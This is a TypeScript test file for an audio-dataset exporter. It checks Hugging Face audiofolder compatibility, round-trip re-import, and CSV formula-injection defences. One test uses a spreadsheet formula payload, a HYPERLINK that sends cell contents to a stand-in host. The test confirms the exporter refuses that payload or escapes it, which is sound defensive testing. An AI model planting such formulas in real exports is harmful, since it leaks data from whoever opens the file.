/**
 * The export must load in Hugging Face `datasets` unchanged. Python is not assumed here, so the
 * test reads it the way `load_dataset("audiofolder", data_dir=out)` does: split = folder name
 * among its keywords, one metadata.csv per split read as RFC 4180 with a header, `file_name`
 * resolved relative to that csv's folder, every other column kept as a feature.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { decodeWav } from '../../../src-main/audio/wav.ts';
import { parseCsv } from '../../../src-main/store/csv.ts';
import { exportAudiofolder, exportTrainingDataset } from '../../../src-main/store/export.ts';
import { readTrainingSet } from '../../../src-main/tuning/dataset.ts';
import { readEvalSet } from '../../../src-main/eval/eval-set.ts';
import { importFolder } from '../../../src-main/store/import.ts';
import { addPrompts } from '../../../src-main/store/prompts.ts';
import { getOrCreateProject } from '../../../src-main/store/projects.ts';
import { listRecordings, saveRecording } from '../../../src-main/store/recordings.ts';
import { openStore } from '../../../src-main/store/store.ts';
import { addTerm } from '../../../src-main/store/terms.ts';
import { snapshot, tempDir } from '../../helpers/store-fixtures.ts';

/** datasets' split keywords for directory names (datasets/data_files.py SPLIT_KEYWORDS). */
const HF_SPLIT_DIRS: Record<string, string> = { train: 'train', training: 'train', validation: 'validation', valid: 'validation', dev: 'validation', val: 'validation', test: 'test', testing: 'test', eval: 'test', evaluation: 'test' };

function loadAudiofolder(dir: string): Record<string, Record<string, string>[]> {
  const out: Record<string, Record<string, string>[]> = {};
  for (const entry of fs.readdirSync(dir)) {
    const split = HF_SPLIT_DIRS[entry];
    assert.ok(split, `top-level entry "${entry}" is not a split folder datasets would recognise (it would be dropped)`);
    const csvPath = path.join(dir, entry, 'metadata.csv');
    const [header, ...rows] = parseCsv(fs.readFileSync(csvPath, 'utf8'));
    assert.equal(header[0], 'file_name');
    out[split] = rows.map((r) => {
      assert.equal(r.length, header.length);
      const row = Object.fromEntries(header.map((h, i) => [h, r[i]]));
      const audio = path.resolve(path.dirname(csvPath), row.file_name);
      const wav = decodeWav(new Uint8Array(fs.readFileSync(audio)), audio);
      assert.equal(wav.sampleRate, 16000);
      return row;
    });
    const listed = new Set(out[split].map((r) => r.file_name));
    for (const f of fs.readdirSync(path.join(dir, entry))) if (f !== 'metadata.csv') assert.ok(listed.has(f), `${entry}/${f} is not in metadata.csv`);
  }
  return out;
}

function clip(seed: number): Float32Array {
  const x = new Float32Array(1600);
  for (let i = 0; i < x.length; i++) x[i] = 0.2 * Math.sin(i * (0.01 + seed * 0.001));
  return x;
}

test('export is an audiofolder with train/validation/test that datasets loads, and it re-imports', async () => {
  const store = openStore(tempDir('vt-exp-'));
  const pid = getOrCreateProject(store.db).id;
  const cuda = addTerm(store.db, pid, { text: 'CUDA', soundsLike: ['cooler'] });
  addPrompts(store.db, pid, [{ termId: cuda.id, text: 'Install CUDA first.', kind: 'term' }, { termId: cuda.id, text: 'The cooler hums.', kind: 'negative' }]);
  const [pTerm, pNeg] = (store.db.prepare('SELECT id FROM prompts ORDER BY id').all() as { id: number }[]).map((p) => p.id);
  let seed = 0;
  for (let i = 0; i < 10; i++) saveRecording(store, pid, { samples: clip(seed++), promptId: pTerm, transcript: { text: `Install CUDA first, take ${i}, "quoted", done.`, source: 'prompt' } });
  for (let i = 0; i < 3; i++) saveRecording(store, pid, { samples: clip(seed++), promptId: pNeg, transcript: { text: 'The cooler hums.', source: 'prompt' } });
  for (let i = 0; i < 4; i++) saveRecording(store, pid, { samples: clip(seed++), transcript: { text: `Plain sentence number ${i}.`, source: 'typed' } });
  saveRecording(store, pid, { samples: clip(seed++) }); // no transcript: skipped

  const out = path.join(tempDir('vt-out-'), 'ds');
  const r = exportAudiofolder(store, pid, out);
  assert.deepEqual(r.skipped.map((s) => s.reason), ['no transcript']);
  const ds = loadAudiofolder(out);
  assert.deepEqual(Object.keys(ds).sort(), ['test', 'train', 'validation']);
  assert.equal(ds.train.length + ds.validation.length + ds.test.length, 17);
  assert.deepEqual(Object.keys(ds.train[0]), ['file_name', 'transcription', 'subset', 'terms']);
  const all = [...ds.train, ...ds.validation, ...ds.test];
  assert.ok(all.some((x) => x.transcription.includes('"quoted"') && x.transcription.includes(',')), 'quotes and commas round-trip');
  assert.ok(ds.test.some((x) => x.subset === 'general'), 'the forgetting-guard clips are in test/ with subset=general');
  assert.ok(!ds.train.some((x) => x.subset === 'general') || ds.test.some((x) => x.subset === 'general'));
  assert.ok(all.filter((x) => x.subset === 'vocabulary').every((x) => x.terms === 'CUDA'));
  assert.ok(all.some((x) => x.subset === 'negative'));
  // Split of every exported clip equals the store's split (general → test).
  const bySplit = listRecordings(store.db, pid).filter((x) => x.transcript !== null);
  for (const s of ['train', 'validation'] as const) assert.equal(ds[s].length, bySplit.filter((x) => x.split === s).length);

  // Round trip: our own export imports into a fresh store with the same transcripts and splits.
  const again = openStore(tempDir('vt-exp2-'));
  const pid2 = getOrCreateProject(again.db).id;
  await importFolder(again, pid2, out);
  const back = listRecordings(again.db, pid2);
  assert.equal(back.length, 17);
  assert.deepEqual(back.map((x) => x.transcript).sort(), all.map((x) => x.transcription).sort());
  assert.deepEqual(back.map((x) => x.sha256).sort(), bySplit.map((x) => x.sha256).sort());
  // …and the guard clips come back as the general split, not as held-out test clips.
  const splitOf = (rows: { sha256: string; split: string | null }[]) => Object.fromEntries(rows.map((x) => [x.sha256, x.split]));
  assert.deepEqual(splitOf(back), splitOf(bySplit), 'every clip keeps its store split, general included');

  // The trainer reads the same export with the guard set filled (it was silently empty before:
  // test/ + subset=general was read as held out, so app runs had no forgetting guard).
  const ts = await readTrainingSet(out);
  assert.equal(ts.general.length, bySplit.filter((x) => x.split === 'general').length);
  assert.ok(ts.general.length > 0, 'the fixture has guard clips');
  assert.deepEqual(ts.general.map((c) => c.text).sort(), ds.test.filter((x) => x.subset === 'general').map((x) => x.transcription).sort());
  assert.equal(ts.train.length, ds.train.length);
});

test('export refuses a target that is not empty', () => {
  const store = openStore(tempDir('vt-exp-'));
  const pid = getOrCreateProject(store.db).id;
  saveRecording(store, pid, { samples: clip(1), transcript: { text: 'hello', source: 'typed' } });
  const out = tempDir('vt-out-');
  fs.writeFileSync(path.join(out, 'keep.txt'), 'mine');
  assert.throws(() => exportAudiofolder(store, pid, out), (e: Error & { code?: string }) => e.code === 'EXPORT_TARGET_EXISTS');
  assert.deepEqual(fs.readdirSync(out), ['keep.txt']);
});

test('CSV injection: a formula transcript is refused (nothing changes); --escape-formulas prefixes an apostrophe', () => {
  const store = openStore(tempDir('vt-exp-'));
  const pid = getOrCreateProject(store.db).id;
  saveRecording(store, pid, { samples: clip(1), transcript: { text: 'plain words', source: 'typed' } });
  const bad = saveRecording(store, pid, { samples: clip(2), transcript: { text: '=HYPERLINK("http://x.example/?"&A1,"click")', source: 'typed' } });
  const out = path.join(tempDir('vt-out-'), 'ds');
  const before = snapshot(store);
  assert.throws(() => exportAudiofolder(store, pid, out), (e: Error & { code?: string }) => {
    assert.equal(e.code, 'EXPORT_CSV_FORMULA');
    assert.match(e.message, new RegExp(`clips ${bad.id}\\b.*--escape-formulas.*changes the exported text`));
    return true;
  });
  assert.deepEqual(snapshot(store), before, 'a refused export assigns no splits');
  assert.equal(fs.existsSync(out), false);
  assert.equal(fs.readdirSync(path.dirname(out)).length, 0, 'no partial export folder left behind');
  const r = exportAudiofolder(store, pid, out, { escapeFormulas: true });
  assert.deepEqual(r.escaped, [bad.id]);
  const rows = Object.values(loadAudiofolder(out)).flat();
  assert.ok(rows.some((x) => x.transcription === `'=HYPERLINK("http://x.example/?"&A1,"click")`));
  assert.ok(rows.some((x) => x.transcription === 'plain words'));
});

test('the dataset Tune trains on is JSON lines: formula-like transcripts export exactly and never block (issue 11, problem 6)', async () => {
  const store = openStore(tempDir('vt-exp-'));
  const pid = getOrCreateProject(store.db).id;
  const texts = ['-5 degrees outside', '+1 for CUDA', '=SUM(A1) is not a formula here', '@mention the team'];
  for (const [i, text] of texts.entries()) saveRecording(store, pid, { samples: clip(i + 1), transcript: { text, source: 'typed' } });
  // The CSV export still refuses by default (a spreadsheet would run these)…
  assert.throws(() => exportAudiofolder(store, pid, path.join(tempDir('vt-out-'), 'csv')), (e: Error & { code?: string }) => e.code === 'EXPORT_CSV_FORMULA');
  // …the training export writes them as they are.
  const out = path.join(tempDir('vt-out-'), 'ds');
  const r = exportTrainingDataset(store, pid, out);
  assert.deepEqual(r.escaped, []);
  const files = fs.readdirSync(out).flatMap((d) => fs.readdirSync(path.join(out, d)).filter((f) => f.startsWith('metadata')).map((f) => `${d}/${f}`));
  assert.ok(files.length > 0 && files.every((f) => f.endsWith('metadata.jsonl')), files.join(', '));
  const rows = files.flatMap((f) => fs.readFileSync(path.join(out, f), 'utf8').trim().split('\n').map((l) => JSON.parse(l)));
  assert.deepEqual(rows.map((x) => x.transcription).sort(), [...texts].sort());
  assert.ok(rows.every((x) => typeof x.subset === 'string' && typeof x.terms === 'string'));
  // Both readers (the trainer's and the comparison's) get the exact text back.
  const ts = await readTrainingSet(out);
  const trained = [...ts.train, ...ts.validation, ...ts.general].map((c) => c.text);
  const ev = readEvalSet(out).clips.map((c) => c.reference);
  // test/ is held out from training; together the two readers see every text, unchanged.
  assert.deepEqual([...new Set([...trained, ...ev])].sort(), [...texts].sort());
});
